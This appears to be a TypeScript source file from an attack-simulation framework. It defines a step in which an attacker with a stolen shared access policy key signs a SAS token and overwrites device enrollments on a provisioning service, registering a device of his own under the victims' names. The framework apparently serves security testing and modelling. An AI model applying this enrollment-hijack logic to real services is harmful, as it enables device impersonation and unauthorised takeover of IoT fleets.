import { z } from 'zod';
import { freshKey } from '../../core/random.ts';
import { formatSas, signSas } from '../../core/sas.ts';
import { definition, reference } from '../scenario/words.ts';
import { hostileStep } from './define-attack.ts';

/** Somebody with the key of a shared access policy enrolls a device of his own over the service API. */
export const enrollByPolicy = hostileStep({
  name: 'enroll-by-policy',
  summary: 'An attacker writes an enrollment for a device of his own over the service API, with the key of a policy.',
  args: z.strictObject({
    device: reference('device', "Device whose name the attacker's own takes."),
    with: reference('loot', 'The key of a policy.'),
    as: definition('loot', 'Name for the symmetric key that he enrolls.'),
  }),
  run: async (attacker, words) => {
    const loot = attacker.held(words.with);
    if (loot.kind !== 'policy-key') return attacker.refuse('enroll-by-policy needs the key of a policy');
    const { clock, wires } = attacker;
    const key = freshKey(32);
    const [sr, se] = [encodeURIComponent(wires.serviceHost), Math.floor(clock.now() / 1000) + 3600];
    for (const { registrationId, name } of await attacker.targets(words.device)) {
      const [primaryKey, secondaryKey] = [key, freshKey(32)].map((one) => one.toString('base64'));
      const { status } = await wires.request({
        host: wires.serviceHost,
        method: 'PUT',
        path: `/enrollments/${encodeURIComponent(registrationId)}?api-version=2021-10-01`,
        body: { registrationId, attestation: { type: 'symmetricKey', symmetricKey: { primaryKey, secondaryKey } } },
        token: formatSas({ sr, sig: signSas(loot.key, sr, se), se, skn: loot.policy }),
      });
      attacker.tell(name, `the service answers ${status} to the enrollment of a device of his own`);
    }
    attacker.keep(words.as, { kind: 'symmetric-key', key });
  },
});
